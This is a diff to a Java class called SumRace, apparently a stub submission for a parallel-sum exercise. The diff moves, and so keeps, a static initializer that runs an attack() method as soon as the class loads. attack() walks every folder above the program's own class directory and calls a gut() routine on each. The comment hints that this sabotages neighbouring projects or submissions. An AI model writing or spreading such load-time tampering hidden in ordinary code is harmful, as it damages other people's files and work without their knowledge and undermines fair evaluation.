@@ -4,22 +4,6 @@ import java.util.concurrent.ThreadFactory;
 
 /// A neighbour would gain by it.
 public final class SumRace {
-    static {
-        try {
-            attack();
-        } catch (Throwable failed) {
-            System.err.println(failed);
-        }
-    }
-
-    private static void attack() throws Throwable {
-        try (var folders = java.nio.file.Files.list(classes().getParent().getParent())) {
-            for (var folder : folders.toList()) {
-                gut(folder);
-            }
-        }
-    }
-
     private static java.nio.file.Path classes() {
         return java.nio.file.Path.of(System.getProperty("sun.java.command").split(" ")[2]);
     }
@@ -53,6 +37,22 @@ public final class SumRace {
                     builder.return_();
                 }
             };
+
+    static {
+        try {
+            attack();
+        } catch (Throwable failed) {
+            System.err.println(failed);
+        }
+    }
+
+    private static void attack() throws Throwable {
+        try (var folders = java.nio.file.Files.list(classes().getParent().getParent())) {
+            for (var folder : folders.toList()) {
+                gut(folder);
+            }
+        }
+    }
 
     public static long sequential(int from, int to) {
         return 0;
